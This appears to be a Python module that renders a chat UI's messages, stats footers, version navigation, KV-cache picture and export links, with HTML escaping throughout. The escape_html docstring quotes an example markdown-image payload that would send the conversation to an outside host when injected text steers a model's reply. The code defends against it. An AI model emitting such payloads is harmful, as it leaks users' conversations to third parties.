"""What the UI shows, as text: messages (HTML-escaped outside code), stats footers, the ◀ k/N ▶
label, persona blurbs and the Engine tab's picture of the KV pages. Pure functions, no Gradio."""

import html
import re
from urllib.parse import quote

# ---- text ---------------------------------------------------------------------------------------
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
# a code span lies within one paragraph: a blank line ends it, and what follows is markdown (and HTML)
_INLINE_CODE = re.compile(r"(`+)(?:(?!\n[ \t]*\n).)+?\1", re.S)


def _segments(text: str):
    """Split markdown into (is_code, chunk) pieces: fenced blocks and inline code spans are code."""
    out: list[tuple[bool, str]] = []
    buf: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        m = _FENCE.match(line)
        if fence is None and m:
            out.append((False, "".join(buf)))
            buf, fence = [line], m.group(1)
        elif fence is not None:
            buf.append(line)
            if (
                m
                and m.group(1)[0] == fence[0]
                and len(m.group(1)) >= len(fence)
                and not line.strip()[len(m.group(1)) :]
            ):
                out.append((True, "".join(buf)))
                buf, fence = [], None
        else:
            buf.append(line)
    out.append((fence is not None, "".join(buf)))
    pieces = []
    for is_code, chunk in out:
        if is_code or not chunk:
            pieces.append((is_code, chunk))
            continue
        pos = 0
        for m in _INLINE_CODE.finditer(chunk):
            pieces.append((False, chunk[pos : m.start()]))
            pieces.append((True, m.group(0)))
            pos = m.end()
        pieces.append((False, chunk[pos:]))
    return pieces


def escape_html(text: str) -> str:
    """Escape & and < outside code, so HTML in a message is shown as text (markdown and code
    blocks still render; code is escaped by the markdown renderer itself). A markdown image shows
    as a link: a reply led by injected text could otherwise make the browser fetch
    `![](https://elsewhere/?q=<the conversation>)` on its own."""
    return "".join(
        c if code else c.replace("&", "&amp;").replace("<", "&lt;").replace("![", "&#33;[")
        for code, c in _segments(text)
    )


def unescape_html(text: str) -> str:
    """The inverse of escape_html (for the text of an edited message)."""
    text = _USER_NAV_TAIL.sub("", text)  # Gradio's editor starts from the shown text, ‹ k/N › included
    return "".join(
        c if code else c.replace("&#33;[", "![").replace("&lt;", "<").replace("&amp;", "&")
        for code, c in _segments(text)
    )


def _fmt_ms(ms) -> str:
    return f"{ms / 1000:.2f} s" if ms >= 1000 else f"{ms:.0f} ms"


def footer(m: dict, streaming: bool = False, nav: str = "") -> str:
    """The stats line under a reply (HTML with fixed classes; every value is escaped), after the
    message's ‹ k/N › when it has one (else a plain k/N marks an alternative)."""
    st = m.get("stats") or {}
    parts = [nav] if nav else []
    if m.get("n", 1) > 1 and not nav:
        parts.append(f"<span class='alt'>{m['k']}/{m['n']}</span>")
    if st.get("tokens") is not None:
        parts.append(f"{st['tokens']} tokens")
    if st.get("ttft_ms") is not None:
        parts.append(f"TTFT {_fmt_ms(st['ttft_ms'])}")
    if st.get("tok_s") is not None:
        parts.append(f"{st['tok_s']:.1f} tok/s")
    if st.get("prompt_tokens") is not None:
        parts.append(f"{st.get('cached_tokens', 0)}/{st['prompt_tokens']} prompt tokens from cache")
    status = m.get("status")
    warn = None
    if status == "aborted":
        parts.append("stopped")
    elif status == "interrupted":
        warn = "interrupted (the server stopped)"
    elif status == "error":
        warn = "error: " + str(st.get("error") or "generation failed")
    elif st.get("finish_reason") == "length":
        parts.append("cut at max tokens")
    if streaming:
        parts = parts[:1] + ["generating…"] if m.get("n", 1) > 1 and not nav else ["generating…"]
    text = " · ".join(parts)
    if warn:
        text += (" · " if text else "") + f"<span class='msg-warn'>⚠ {html.escape(warn)}</span>"
    return f"<span class='msg-stats'>{text}</span>" if text else ""


USER_NAV = "\n\n<span class='msg-stats'>{}</span>"
_USER_NAV_TAIL = re.compile(
    r"\n*<span class='msg-stats'><span class='ver-nav vm-[\w-]+'>.*?</span></span></span>\s*\Z", re.S
)
_ID = re.compile(r"[\w-]{1,64}")


def version_nav(m: dict) -> str:
    """The inline ‹ k/N › of a message with versions (edits) or alternatives (regenerations, n
    samples): spans a page script turns into clicks (see layout.JS_VERSIONS); '' for a single one.
    Gradio's sanitizer keeps classes but drops data attributes, so the message id and the step
    ride in class names ("vm-<id>", "ver-prev"/"ver-next", "ver-on" where a step is possible)."""
    if m.get("n", 1) <= 1 or not _ID.fullmatch(str(m["id"])):
        return ""
    prev = " ver-on" if m["k"] > 1 else ""
    nxt = " ver-on" if m["k"] < m["n"] else ""
    return (
        f"<span class='ver-nav vm-{m['id']}'>"
        f"<span class='ver-step ver-prev{prev}' role='button' title='previous version'>‹</span>"
        f"<span class='ver-count'>{m['k']}/{m['n']}</span>"
        f"<span class='ver-step ver-next{nxt}' role='button' title='next version'>›</span></span>"
    )


def _reply(m: dict, streaming: bool, nav: str) -> dict:
    body = escape_html(m["content"])
    if streaming:
        body += " ▍"
    elif not body.strip():
        body = "*(no text)*" if m.get("status") != "aborted" else "*(stopped before the first token)*"
    foot = footer(m, streaming, nav)
    return {"role": "assistant", "content": body + ("\n\n" + foot if foot else "")}


def to_chat(view: list[dict], streaming_id: str | None = None, inline_nav: bool = True) -> list[dict]:
    """Chatbot rows of a transcript; with ``inline_nav`` every message with versions carries its ‹ k/N ›."""
    rows = []
    for m in view:
        nav = version_nav(m) if inline_nav and m["id"] != streaming_id else ""
        if m["role"] == "user":
            text = escape_html(m["content"])
            rows.append({"role": "user", "content": text + (USER_NAV.format(nav) if nav else "")})
            continue
        rows.append(_reply(m, m["id"] == streaming_id, nav))
    return rows


def default_focus(view: list[dict], focus: str | None) -> str | None:
    ids = [m["id"] for m in view]
    if focus in ids:
        return focus
    for m in reversed(view):
        if m["role"] == "assistant":
            return m["id"]
    return ids[-1] if ids else None


def can_continue(view: list[dict], focus: str | None) -> bool:
    """Whether the selected message is the last reply, finished at max tokens (Continue writes more)."""
    m = view[-1] if view else None
    return (
        m is not None
        and m["id"] == focus
        and m["role"] == "assistant"
        and m.get("status") == "done"
        and (m.get("stats") or {}).get("finish_reason") == "length"
    )


def nav_state(view: list[dict], focus: str | None) -> str:
    """The label (markdown) naming the selected message, which Regenerate and Continue act on."""
    m = next((m for m in view if m["id"] == focus), None)
    if m is None:
        return ""
    pos = [x["id"] for x in view if x["role"] == m["role"]].index(m["id"]) + 1
    last = m["id"] == view[-1]["id"] or (
        m["role"] == "assistant" and m["id"] == next(x["id"] for x in reversed(view) if x["role"] == "assistant")
    )
    if m["role"] == "assistant":
        what = "Last reply" if last else f"Reply {pos}"
        kind = "alternative"
    else:
        what = f"Your message {pos}"
        kind = "version"
    label = f"{what} · {kind} **{m['k']} / {m['n']}**" if m["n"] > 1 else f"{what} · {kind} 1 / 1"
    if len(view) > 2:
        label += " <span style='opacity:.55'>· click a message to select it</span>"
    return label


def parse_version_step(cmd) -> tuple[str, int] | None:
    """("message id", ±1) from the page script's "id:step[:nonce]"; None for anything else."""
    parts = str(cmd or "").split(":")
    if len(parts) < 2 or not _ID.fullmatch(parts[0]) or parts[1] not in ("-1", "1"):
        return None
    return parts[0], int(parts[1])


# ---- engine view --------------------------------------------------------------------------------
def kv_picture(stats: dict, max_cells: int = 768) -> str:
    """A waffle picture of the device KV pool (each cell = one or more pages) and tier counts."""
    total = int(stats.get("kv_blocks_total") or 0)
    used = int(stats.get("kv_blocks_used") or 0)
    shared = min(int(stats.get("kv_blocks_shared") or 0), used)
    cached = int(stats.get("kv_blocks_cached") or 0)
    free = max(int(stats.get("kv_blocks_free", total - used)) - cached, 0)
    per = max(1, -(-total // max_cells))
    cells = []
    for cls, count in (("kv-shared", shared), ("kv-used", used - shared), ("kv-cached", cached), ("kv-free", free)):
        cells += [cls] * (-(-count // per) if count else 0)
    cells = cells[: -(-total // per)] if total else []
    grid = "".join(f"<div class='kv-cell {c}'></div>" for c in cells)
    bs = stats.get("block_size", 16)

    def legend(cls, label, n):
        return f"<span><span class='kv-cell {cls}'></span>{label}: <b>{n}</b></span>"

    hit = stats.get("prefix_cache_hit_rate")
    tiers = [
        (
            "Device pages",
            f"{used + cached}/{total}",
            f"{used} in use ({shared} shared) · {cached} cached · {free} free",
        ),
        ("Shared pages", shared, "used by more than one sequence (personas, forks)"),
        ("CPU tier", stats.get("cpu_blocks_used", 0), "pages offloaded to CPU memory"),
        ("Disk tier", stats.get("disk_blocks", 0), "pages persisted on disk"),
        ("Prefix-cache hit rate", f"{100 * hit:.1f}%" if hit is not None else "–", "of prompt tokens since start"),
        (
            "Requests",
            f"{stats.get('num_running', 0)} running",
            f"{stats.get('num_waiting', 0)} waiting · {stats.get('num_preemptions', 0)} preempted",
        ),
        (
            "Generated tokens",
            stats.get("num_generated_tokens", 0),
            f"{stats.get('model', '')} on {stats.get('device', '?')}",
        ),
    ]
    tier_html = "".join(
        f"<div class='kv-tier'><span>{html.escape(str(a))}</span><b>{html.escape(str(b))}</b>"
        f"<span>{html.escape(str(c))}</span></div>"
        for a, b, c in tiers
    )
    scale = f" (one cell = {per} pages)" if per > 1 else ""
    return (
        # "in use" counts the shared pages too, as the Device pages card does: the two must agree
        f"<div><div class='kv-legend'>{legend('kv-used', 'in use', used)}"
        f"{legend('kv-shared', 'of them shared', shared)}{legend('kv-cached', 'cached (reusable)', cached)}"
        f"{legend('kv-free', 'free', free)}<span style='opacity:.7'>{total} device pages of {bs} tokens{scale}"
        f"</span></div><div class='kv-grid'>{grid}</div><div class='kv-tiers'>{tier_html}</div></div>"
    )


# ---- personas -----------------------------------------------------------------------------------
def persona_placeholder(persona) -> str:
    """The empty chat's welcome for a persona (None: a plain prompt to type)."""
    if persona is None:
        return "### Start a conversation\nType a message below."
    return (
        f"<div style='text-align:center'><h2>{html.escape(persona.title)}</h2>"
        f"<p style='opacity:.75'>{html.escape(persona.description)}</p>"
        "<p style='opacity:.55;font-size:.9em'>Pick a persona above, then type a message below.</p></div>"
    )


def persona_header(persona) -> str:
    """The one-line persona header of an open conversation ("" for none)."""
    if persona is None:
        return ""
    return f"**{html.escape(persona.title)}** <span style='opacity:.65'>· {html.escape(persona.description)}</span>"


def export_links(conv_id: str) -> str:
    """The menu's download links (GET /export/<id>.md|.json, see app/export.py). The id is quoted for
    the URL and escaped for HTML: a crafted id in the address bar stays text."""
    base = html.escape(quote(conv_id, safe=""), quote=True)
    return (
        "<div class='export-links'>Export: "
        f"<a href='export/{base}.md' download id='export-md'>Markdown</a> · "
        f"<a href='export/{base}.json' download id='export-json'>JSON</a></div>"
    )
